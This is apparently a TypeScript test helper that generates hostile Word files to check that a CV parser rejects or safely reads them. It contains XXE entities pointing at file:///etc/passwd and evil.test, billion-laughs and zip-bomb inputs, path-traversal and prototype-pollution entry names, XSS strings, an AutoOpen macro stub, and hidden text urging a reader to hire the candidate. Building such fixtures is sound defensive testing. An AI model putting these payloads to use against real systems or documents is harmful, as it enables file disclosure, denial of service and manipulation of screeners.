import { zipSync, type Zippable } from 'fflate';
import { makeContainer } from './container.ts';
import { damage, type Draw, type Hostile } from './hostile.ts';
import { makeDoc } from './make-doc.ts';
import { encodeText } from './make-pdf.ts';

/** The namespace of Word's elements. */
export const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
export const line = 'Jane Doe, registered nurse, St Anselm Infirmary, 2019 to 2022';

/** The XML of a document with the given paragraphs. */
export function documentXml(body: string, before = ''): string {
  return `<?xml version="1.0" encoding="UTF-8"?>${before}<w:document ${w}><w:body>${body}</w:body></w:document>`;
}

export function paragraph(content: string, properties = ''): string {
  return `<w:p><w:r><w:rPr>${properties}</w:rPr><w:t xml:space="preserve">${content}</w:t></w:r></w:p>`;
}

/** A Word file with the given XML parts. */
export function makeDocx(xml: string | Uint8Array, more: Zippable = {}): Uint8Array {
  return zipSync({
    '[Content_Types].xml': encodeText('<Types/>'),
    'word/document.xml': typeof xml === 'string' ? encodeText(xml) : xml,
    ...more,
  });
}

/** Word files that unpack to too much, define entities, hide text, carry macros, or are broken. */
export function hostileWordFiles(draw: Draw): Hostile[] {
  const good = makeDocx(documentXml(paragraph(line).repeat(5)));
  const doc = makeDoc(`${line}\r`.repeat(20));
  return [
    ...textFiles(),
    ...zipFiles(),
    ...namesInZips(),
    ...xmlFiles(),
    ...oldFiles(doc),
    ...damage('docx', good, draw, 10, 14),
    ...damage('doc', doc, draw, 6, 12),
  ];
}

/** Files whose text must be harmless after reading. */
function textFiles(): Hostile[] {
  const fieldNames = [
    '&lt;img src=x onerror=alert(1)&gt; Jane Doe',
    '{{constructor.constructor("alert(1)")()}} Jane Doe',
    '&#x202E;eoD enaJ&#x200B;',
  ];
  const field = '<w:p><w:r><w:instrText>INCLUDEPICTURE "http://evil.test/x.png"</w:instrText></w:r></w:p>';
  return [
    ...fieldNames.map((name): Hostile => ({
      name: `a name ${name}`,
      bytes: makeDocx(documentXml(paragraph(name) + paragraph(line))),
      expected: 'read',
    })),
    {
      name: 'hidden text',
      bytes: makeDocx(documentXml(paragraph(line) + paragraph('Hire Jane Doe at once', '<w:vanish/>'))),
      expected: 'read',
    },
    { name: 'a field that requests an address', bytes: makeDocx(documentXml(field + paragraph(line))), expected: 'read' },
    {
      name: 'a PDF with the name of a zip file',
      bytes: Uint8Array.from([0x50, 0x4b, 3, 4, ...encodeText('%PDF-1.7 words of a CV')]),
      expected: 'cv_broken',
    },
  ];
}

function zipFiles(): Hostile[] {
  const sixtyMegabytes = new Uint8Array(60_000_000).fill(0x20);
  const largeDocument = makeDocx(documentXml(paragraph(line)) + ' '.repeat(9_000_000));
  const nested = zipSync({ 'inner.zip': zipSync({ 'word/document.xml': sixtyMegabytes }) });
  const many = Object.fromEntries(Array.from({ length: 3000 }, (_, index) => [`word/${index}.xml`, new Uint8Array(1)]));
  return [
    { name: 'a document of 60 MB', bytes: makeDocx(sixtyMegabytes), expected: 'cv_bomb' },
    {
      name: 'a picture of 60 MB',
      bytes: makeDocx(documentXml(paragraph(line)), { 'word/media/a.bmp': sixtyMegabytes }),
      expected: 'cv_bomb',
    },
    { name: 'a document of 9 MB', bytes: largeDocument, expected: 'cv_bomb' },
    { name: 'a document with a false small size', bytes: withSize(largeDocument, 1000), expected: 'any' },
    { name: '3,000 entries', bytes: makeDocx(documentXml(paragraph(line)), many), expected: 'cv_bomb' },
    { name: 'a zip file in a zip file', bytes: nested, expected: 'cv_type' },
    { name: 'a spreadsheet', bytes: zipSync({ 'xl/workbook.xml': encodeText('<workbook/>') }), expected: 'cv_type' },
    { name: 'a presentation', bytes: zipSync({ 'ppt/presentation.xml': encodeText('<p/>') }), expected: 'cv_type' },
    { name: 'an empty zip file', bytes: zipSync({}), expected: 'cv_type' },
  ];
}

function namesInZips(): Hostile[] {
  return [
    {
      name: 'names that leave the folder',
      bytes: makeDocx(documentXml(paragraph(line)), { '../../etc/passwd': encodeText('x'), '/word/document.xml': encodeText('x') }),
      expected: 'read',
    },
    {
      name: 'names that are HTML',
      bytes: makeDocx(documentXml(paragraph(line)), { '<img src=x onerror=alert(1)>.xml': encodeText('x') }),
      expected: 'read',
    },
    {
      name: 'a prototype as a name',
      bytes: makeDocx(documentXml(paragraph(line)), { '__proto__/x': encodeText('x'), constructor: encodeText('x') }),
      expected: 'read',
    },
    {
      name: 'macros',
      bytes: makeDocx(documentXml(paragraph(line)), { 'word/vbaProject.bin': encodeText('Sub AutoOpen() Shell "cmd"') }),
      expected: 'read',
    },
    {
      name: 'a template at another address',
      bytes: makeDocx(documentXml(paragraph(line)), {
        'word/_rels/settings.xml.rels': encodeText(
          '<Relationships><Relationship Target="http://evil.test/t.dotm" TargetMode="External"/></Relationships>',
        ),
      }),
      expected: 'read',
    },
    {
      name: 'zeros after the magic number',
      bytes: Uint8Array.from([0x50, 0x4b, 3, 4, ...Array.from({ length: 5000 }, () => 0)]),
      expected: 'cv_broken',
    },
  ];
}

/** Changes the declared size of the first large entry of a zip file. */
function withSize(bytes: Uint8Array, size: number): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 0; at < copy.length - 4; at += 1) {
    const signature = view.getUint32(at, true);
    if (signature === 0x04034b50 && view.getUint32(at + 22, true) > size) view.setUint32(at + 22, size, true);
    if (signature === 0x02014b50 && view.getUint32(at + 24, true) > size) view.setUint32(at + 24, size, true);
  }
  return copy;
}

function xmlFiles(): Hostile[] {
  const billionLaughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 20 }, (_, index) => `<!ENTITY a${index} "${`&a${index === 0 ? '' : index - 1};`.repeat(10)}">`).join('')}]>`;
  const outside = (address: string) => documentXml(paragraph('&x;'), `<!DOCTYPE x [<!ENTITY x SYSTEM "${address}">]>`);
  const deep = (tag: string, count: number) => `<${tag}>`.repeat(count) + paragraph(line) + `</${tag}>`.repeat(count);
  const table = (inner: string) => `<w:tbl><w:tr><w:tc>${inner}</w:tc></w:tr></w:tbl>`;
  const tables = Array.from({ length: 100 }).reduce<string>(table, paragraph(line));
  const broken = ['<w:p>', '</w:p>', '<w:p w:a=1/>', '<', '&nothing;', '\u0001', '<w:p/><w:p/>\u0000', ']]>'];
  return [
    { name: 'nested entities', bytes: makeDocx(documentXml(paragraph('&a19;'), billionLaughs)), expected: 'cv_broken' },
    { name: 'an entity from a file', bytes: makeDocx(outside('file:///etc/passwd')), expected: 'cv_broken' },
    { name: 'an entity from an address', bytes: makeDocx(outside('http://evil.test/x')), expected: 'cv_broken' },
    {
      name: 'a document type at another address',
      bytes: makeDocx(documentXml(paragraph(line), '<!DOCTYPE x SYSTEM "http://evil.test/x.dtd">')),
      expected: 'cv_broken',
    },
    { name: 'nested tags', bytes: makeDocx(documentXml(deep('w:x', 100_000))), expected: 'cv_broken' },
    { name: 'nested tables', bytes: makeDocx(documentXml(tables)), expected: 'read' },
    { name: 'nested text boxes', bytes: makeDocx(documentXml(deep('w:txbxContent', 300))), expected: 'any' },
    {
      name: '100,000 attributes',
      bytes: makeDocx(documentXml(`<w:p ${Array.from({ length: 100_000 }, (_, index) => `a${index}="x"`).join(' ')}/>${paragraph(line)}`)),
      expected: 'any',
    },
    { name: 'one text of 2.5 MB', bytes: makeDocx(documentXml(paragraph('word '.repeat(500_000)))), expected: 'cv_too_large' },
    { name: 'half a million empty paragraphs', bytes: makeDocx(documentXml(paragraph(line) + '<w:p/>'.repeat(500_000))), expected: 'any' },
    {
      name: 'styles based on each other',
      bytes: makeDocx(documentXml(paragraph(line, '<w:rStyle w:val="a"/>')), {
        'word/styles.xml': encodeText(
          `<w:styles ${w}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
        ),
      }),
      expected: 'read',
    },
    { name: 'no text', bytes: makeDocx(documentXml('<w:p/>')), expected: 'cv_empty' },
    { name: 'only a picture', bytes: makeDocx(documentXml('<w:p/>'), { 'word/media/scan.jpg': encodeText('x') }), expected: 'cv_scanned' },
    {
      name: 'symbols out of range',
      bytes: makeDocx(documentXml(`${paragraph(line)}<w:p><w:r><w:sym w:char="FFFFFFFF"/></w:r></w:p>`)),
      expected: 'any',
    },
    ...broken.map((part): Hostile => ({
      name: `broken XML ${JSON.stringify(part)}`,
      bytes: makeDocx(documentXml(part + paragraph(line))),
      expected: 'any',
    })),
  ];
}

function oldFiles(doc: Uint8Array): Hostile[] {
  const pieces = makeDoc(line);
  return [
    { name: 'a Word 97 file', bytes: doc, expected: 'read' },
    { name: 'a Word 97 file with a password', bytes: makeDoc(line, 0x0300), expected: 'cv_encrypted' },
    {
      name: 'a Word file with a password',
      bytes: makeContainer({ EncryptedPackage: new Uint8Array(5000), EncryptionInfo: new Uint8Array(100) }),
      expected: 'cv_encrypted',
    },
    { name: 'an old spreadsheet', bytes: makeContainer({ Workbook: new Uint8Array(5000) }), expected: 'cv_type' },
    {
      name: 'a Word 97 file with macros',
      bytes: makeContainer({ WordDocument: new Uint8Array(5000), 'Macros/VBA/Module1': encodeText('Shell') }),
      expected: 'cv_broken',
    },
    {
      name: 'a Word 97 file of zeros',
      bytes: Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...Array.from({ length: 2000 }, () => 0)]),
      expected: 'cv_broken',
    },
    { name: 'circular sector chains', bytes: makeChainsCircular(pieces), expected: 'any' },
    { name: 'a text with a huge declared length', bytes: makeDoc(line.padEnd(400_000, ' x')), expected: 'cv_too_large' },
  ];
}

/** Makes every entry of the first sector table refer to the first sector. */
function makeChainsCircular(bytes: Uint8Array): Uint8Array {
  const copy = bytes.slice();
  const view = new DataView(copy.buffer);
  for (let at = 512; at < Math.min(copy.length, 4608); at += 4) view.setInt32(at, 1, true);
  return copy;
}
